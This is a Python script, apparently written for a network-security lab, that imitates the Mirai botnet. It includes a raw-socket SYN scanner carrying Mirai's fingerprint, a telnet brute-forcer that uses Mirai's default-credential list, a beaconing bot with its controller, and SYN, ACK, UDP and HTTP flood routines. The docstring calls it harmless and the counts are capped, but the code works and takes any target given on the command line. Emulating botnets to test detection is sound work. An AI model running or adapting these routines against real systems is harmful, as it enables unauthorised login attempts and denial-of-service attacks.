"""A harmless bot with Mirai's habits, and its controller, for the lab's namespaces.

Everything is bounded in count; what it did is printed when it ends, one line of counts.
"""

import argparse
import random
import socket
import socketserver
import struct
import time
import urllib.request

# The first lines of the dictionary in Mirai's published scanner; none of them opens anything in the lab.
DICTIONARY = [
    ("root", "xc3511"), ("root", "vizxv"), ("root", "admin"), ("admin", "admin"), ("root", "888888"),
    ("root", "xmhdipc"), ("root", "default"), ("root", "juantech"), ("root", "123456"), ("root", "54321"),
    ("support", "support"), ("root", ""), ("admin", "password"), ("root", "root"), ("root", "12345"),
    ("user", "user"), ("admin", ""), ("root", "pass"), ("admin", "admin1234"), ("root", "1111"),
]
FLAGS = {"syn": 0x02, "ack": 0x10}


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def segment(source, target, sport, dport, sequence, flags, window, payload=b""):
    """A TCP segment without options, as Mirai's scanner and floods send (RFC 9293, section 3.1)."""
    header = struct.pack("!HHIIBBHHH", sport, dport, sequence, 0, 5 << 4, flags, window, 0, 0)
    pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack("!BBH", 0, 6, len(header) + len(payload))
    return header[:16] + struct.pack("!H", checksum(pseudo + header + payload)) + header[18:] + payload


def raw(ttl):
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, ttl)
    return sock


def pause(rate):
    time.sleep(random.expovariate(rate))


def scan(options):
    """Probes whose sequence number is the target's address: what Mirai is known by."""
    sock = raw(options.ttl)
    flows = set()
    for _ in range(options.probes):
        target = random.choice(options.targets)
        sport = random.randint(1025, 65535)
        dport = 2323 if random.random() < 0.1 else 23
        sequence = struct.unpack("!I", socket.inet_aton(target))[0]
        window = random.randint(1, 65535)
        sock.sendto(segment(options.source, target, sport, dport, sequence, FLAGS["syn"], window), (target, 0))
        flows.add((target, sport, dport))
        pause(options.rate)
    return "probes sent: %d, flows opened: %d" % (options.probes, len(flows))


def expect(sock, *endings):
    """Reads until the server asks for something, answering telnet's options with refusals (RFC 854)."""
    text = b""
    while not text.rstrip().endswith(endings):
        data = sock.recv(512)
        if not data:
            break
        at = 0
        while at < len(data):
            if data[at] == 255 and at + 2 < len(data) and data[at + 1] in (251, 252, 253, 254):
                if data[at + 1] in (251, 253):
                    sock.sendall(bytes([255, 254 if data[at + 1] == 251 else 252, data[at + 2]]))
                at += 3
            else:
                text += data[at:at + 1]
                at += 1
    return text


def login(options):
    host, port = options.targets[0].split(":")
    opened = 0
    for _ in range(options.tries):
        user, password = random.choice(DICTIONARY)
        try:
            with socket.create_connection((host, int(port)), timeout=3) as sock:
                opened += 1
                expect(sock, b"login:")
                sock.sendall(user.encode() + b"\r\n")
                expect(sock, b"assword:")
                sock.sendall(password.encode() + b"\r\n")
                expect(sock, b"incorrect", b"login:")
        except OSError:
            pass
        # Said each time, as time may be up before the last.
        print("connections opened: %d" % opened, flush=True)
        pause(options.rate)
    return "done"


def heartbeat(options):
    """Fetches its file, then tells the controller now and then that it is there; reconnects as after a lost link."""
    fetched = len(urllib.request.urlopen(options.fetch, timeout=5).read())
    host, port = options.targets[0].split(":")
    opened = 1
    beats = 0
    while beats < options.beats:
        try:
            with socket.create_connection((host, int(port)), timeout=3) as sock:
                opened += 1
                sock.sendall(b"\0\0\0\1\4lamp")
                for _ in range(random.randint(1, 3)):
                    sock.sendall(b"\0\0")
                    sock.recv(2)
                    beats += 1
                    time.sleep(options.every)
        except OSError:
            beats += 1
    return "fetched %d bytes, beats: %d, connections opened: %d" % (fetched, beats, opened)


def flood(options):
    host, port = options.targets[0].split(":")
    port = int(port)
    flows = set()
    sock = raw(options.ttl) if options.kind in FLAGS else None
    for i in range(options.packets):
        sport = random.randint(1025, 65535)
        if sock:
            payload = random.randbytes(512) if options.kind == "ack" else b""
            sequence = random.getrandbits(32)
            window = random.randint(1, 65535)
            data = segment(options.source, host, sport, port, sequence, FLAGS[options.kind], window, payload)
            sock.sendto(data, (host, 0))
            flows.add(sport)
        elif options.kind == "udp":
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
                one.sendto(random.randbytes(512), (host, random.randint(1, 65535)))
            flows.add(i)
        else:
            try:
                with socket.create_connection((host, port), timeout=3) as one:
                    flows.add(i)
                    one.sendall(b"GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % host.encode())
                    one.recv(256)
            except OSError:
                pass
        pause(options.rate)
    return "packets sent: %d, flows opened: %d" % (options.packets, len(flows))


class Bots(socketserver.BaseRequestHandler):
    """Answers each heartbeat with one of its own."""

    def handle(self):
        self.request.settimeout(60)
        try:
            self.request.recv(9)
            while self.request.recv(2):
                self.request.sendall(b"\0\0")
        except OSError:
            return


class Controller(socketserver.ThreadingTCPServer):
    address_family = socket.AF_INET6
    allow_reuse_address = True
    daemon_threads = True


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--seed", type=int)
    parser.add_argument("--ttl", type=int)
    parser.add_argument("--source")
    commands = parser.add_subparsers(dest="command", required=True)
    for name, numbers in (("scan", ("probes", "rate")), ("login", ("tries", "rate")),
                          ("heartbeat", ("beats", "every")), ("flood", ("packets", "rate"))):
        command = commands.add_parser(name)
        for number in numbers:
            command.add_argument("--" + number, type=float if number in ("rate", "every") else int, required=True)
        command.add_argument("targets", nargs="+")
    commands.choices["heartbeat"].add_argument("--fetch", required=True)
    commands.choices["flood"].add_argument("--kind", choices=["syn", "ack", "udp", "http"], required=True)
    commands.add_parser("controller").add_argument("port", type=int)
    options = parser.parse_args()
    if options.command == "controller":
        with Controller(("::", options.port), Bots) as server:
            server.serve_forever()
    random.seed(options.seed)
    print(globals()[options.command](options))


if __name__ == "__main__":
    main()
